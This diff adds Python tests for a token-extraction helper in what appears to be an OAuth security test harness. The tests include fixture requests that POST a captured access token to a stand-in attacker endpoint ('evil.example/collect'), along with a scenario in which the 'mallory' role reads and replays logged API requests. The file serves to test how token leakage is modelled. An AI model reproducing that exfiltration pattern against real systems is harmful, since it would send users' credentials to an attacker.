@@ -57,3 +57,50 @@ def test_parts_of_values():
         assert path(answer, wrong) is None
     assert references.part_of("no address", "query") is None
     assert references.part_of("a.b.c", "claims") is None
+
+
+JWT = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbGljZSJ9."
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        Request("GET", "https://x.example/", (("Authorization", f"Bearer {JWT}"),)),
+        Request("GET", "https://x.example/", (("authorization", f"DPoP {JWT}"), ("DPoP", "eyJhbGciOiJFUzI1NiJ9.eyJqdGkiOiIxIn0.x"))),
+        Request("GET", f"https://x.example/?a=1&access_token={JWT}"),
+        Request("GET", f"https://x.example/#access_token={JWT}&token_type=Bearer"),
+        Request("GET", "https://x.example/", (("Cookie", f"a=b; session={JWT}"),)),
+        Request("POST", "https://evil.example/collect", (), f'{{"storage": {{"access_token": "{JWT}"}}}}'),
+        Request("POST", "https://evil.example/collect", (), f"found {JWT} in the page"),
+        json_response(200, {"access_token": JWT}),
+    ],
+    ids=["Bearer", "DPoP", "query", "fragment", "cookie", "JSON", "text", "answer"],
+)
+def test_a_token_is_cut_out_of_any_place_it_stands_in(message: Request) -> None:
+    assert references.part_of(message, "token") == JWT
+
+
+def test_where_no_token_stands_there_is_none() -> None:
+    assert references.part_of(Request("GET", "https://x.example/?code=1"), "token") is None
+    assert references.part_of("https://x.example/", "token") is None
+
+
+def test_cookies_are_parts_of_messages() -> None:
+    assert references.part_of(Request("GET", "https://x.example/", (("Cookie", "a=1; b=2"),)), "cookies") == {"a": "1", "b": "2"}
+    assert references.part_of(json_response(200, {}, ("Set-Cookie", "a=1; Path=/")), "cookies") == {"a": "1"}
+
+
+def test_all_that_was_read_or_received_is_there_newest_first() -> None:
+    record = told(
+        """
+        in app.sign_in {browser: laptop}
+        one app.call_api {browser: laptop, api: accounts, path: /accounts}
+        two app.call_api {browser: laptop, api: accounts, path: /accounts?second=1}
+        log mallory.read {log: accounts}
+        old mallory.send {like: $log.all.1}
+        """,
+        rs_log_redaction="off",
+    )
+    assert [r.url.partition("?")[2] for r in record.outputs["log"]["all"]] == ["second=1", ""]
+    assert record.outputs["log"]["request"] == record.outputs["log"]["all"][0]
+    assert record.outputs["old"]["request"].url.endswith("/accounts")
